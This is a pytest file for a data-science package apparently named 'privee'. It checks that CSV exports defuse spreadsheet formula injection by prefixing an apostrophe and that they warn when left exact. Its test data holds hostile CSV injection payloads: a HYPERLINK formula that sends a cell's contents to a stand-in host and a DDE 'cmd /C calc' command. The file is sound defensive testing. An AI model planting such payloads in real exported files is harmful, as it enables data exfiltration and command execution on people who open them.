"""CSV files that people open in spreadsheets: exact by default, with a word of warning; harmless when asked for."""

import csv
import json

import pyarrow as pa
import pyarrow.parquet as arrow_parquet
import pytest

from privee.data.score_files.csv_scores import as_text
from privee.defenses import defense
from privee.vfl.experiment import train_run
from privee.vfl.own_tables import from_tables
from privee.vfl.prediction import predict
from tests._support.commands import run
from tests._support.party_world import TINY, make_tables

FORMULAS = [
    '=HYPERLINK("http://x.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1",
    "\uff1d1+1",
    "-",
    "--1",
    "-1e5e",
    "+49 30 1234",
]
PLAIN = ["-5", "+49301234", "-0.5", "-.5e-3", "+1E9", "007", "a=b", "", "'=1", "x\n=1", "c1000", "é"]


def test_formulas_are_told_from_numbers_and_text():
    given = pa.array([*FORMULAS, *PLAIN, None])
    assert as_text(given).to_pylist() == [*("'" + text for text in FORMULAS), *PLAIN, None]


def read(path):
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.reader(file))


@pytest.mark.parametrize("coded", [False, True])
def test_protect_says_so_and_defuses_ids_and_names_if_asked(tmp_path, coded):
    ids = pa.array([*FORMULAS, *PLAIN])
    columns = {"=cmd()": ids.dictionary_encode() if coded else ids, "-1": [0.25] * len(ids), "b": [0.75] * len(ids)}
    arrow_parquet.write_table(pa.table(columns), tmp_path / "s.parquet")
    command = ["protect", "s.parquet", "-d", "none", "--id", "=cmd()"]
    code, _, err = run(*command, "-o", "exact.csv", cwd=tmp_path)
    assert (code, f"{len(FORMULAS) + 1} ids or names begin like a formula" in err) == (0, True)
    assert "calc" not in err
    exact = read(tmp_path / "exact.csv")
    assert [row[0] for row in exact] == ["=cmd()", *FORMULAS, *PLAIN]
    code, out, err = run(*command, "-o", "safe.csv", "--spreadsheet", "--json", cwd=tmp_path)
    assert (code, err, json.loads(out)["formulas"]) == (0, "", len(FORMULAS) + 1)
    safe = read(tmp_path / "safe.csv")
    assert [row[0] for row in safe] == ["'=cmd()", *("'" + text for text in FORMULAS), *PLAIN]
    assert [row[1:] for row in safe] == [row[1:] for row in exact]
    assert safe[0][1:] == ["-1", "b"]  # a number is no formula, as a name neither
    code, _, err = run(*command, "-o", "typed.parquet", cwd=tmp_path)
    assert (code, err) == (0, "")
    assert arrow_parquet.read_table(tmp_path / "typed.parquet")["=cmd()"].to_pylist() == ids.to_pylist()


def test_predict_does_the_same_with_ids(tmp_path):
    make_tables(tmp_path)
    files = {name: tmp_path / f"{name}.csv" for name in ("bank", "shop")}
    for file in files.values():
        file.write_text(file.read_text(encoding="utf-8").replace("kunde-0001,", "=1+1,"), encoding="utf-8")
    columns = dict.fromkeys(files, "customer")
    data = from_tables(files, active="bank", id_columns=columns, label="risk", test_share=0.3, seed=1)
    train_run(tmp_path / "run", data, "logistic", TINY)
    for name, spreadsheet, expected in (("exact", False, "=1+1"), ("safe", True, "'=1+1")):
        target = tmp_path / f"{name}.csv"
        told = predict(tmp_path / "run", target, defense("none"), files=files, which="all", spreadsheet=spreadsheet)
        assert told["formulas"] == 1
        assert expected in [row[0] for row in read(target)]
